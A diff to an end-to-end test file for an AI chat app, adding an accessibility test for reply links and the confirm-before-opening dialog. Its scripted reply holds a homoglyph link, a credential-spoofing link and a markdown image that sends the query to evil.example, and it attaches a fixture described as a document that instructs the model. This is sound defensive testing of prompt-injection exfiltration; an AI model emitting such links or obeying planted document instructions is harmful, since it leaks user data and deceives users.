@@ -94,6 +94,28 @@ for (const colorScheme of ['light', 'dark'] as const) {
         await expectOpenMenuClean(chat);
       });
 
+      test('links in a reply, the dialog that asks before one opens, and a source line that flags a document have no axe violations', async ({
+        chat,
+        page,
+      }) => {
+        await chat.open({
+          scripted_load_ms: 0,
+          scripted_tps: 2000,
+          scripted_reply:
+            'See [the portal](https://\u0430pple.com/login?q=price), [sign in](https://accounts.google.com@evil.example/) and ![status](https://evil.example/p.png?q=price).',
+        });
+        await chat.attachDocument('e2e/fixtures/documents/hostile/image-exfiltration.md');
+        await expect(chat.documentCard('image-exfiltration.md')).toBeVisible();
+        await chat.sendAndWait('What is the tender price for the new ferry?');
+        await expectClean(page, 'a reply with links, from a document that instructs the model');
+        const reply = chat.lastReply();
+        for (const name of ['the portal', 'sign in', 'Image: status']) {
+          await reply.getByRole('link', { name }).click();
+          await expectClean(page, `the dialog asking before “${name}” opens`, 'dialog[open]');
+          await chat.linkDialog().getByRole('button', { name: 'Cancel' }).click();
+        }
+      });
+
       test('images in the composer and in a message, and the note for a text-only model, have no axe violations', async ({
         chat,
         page,
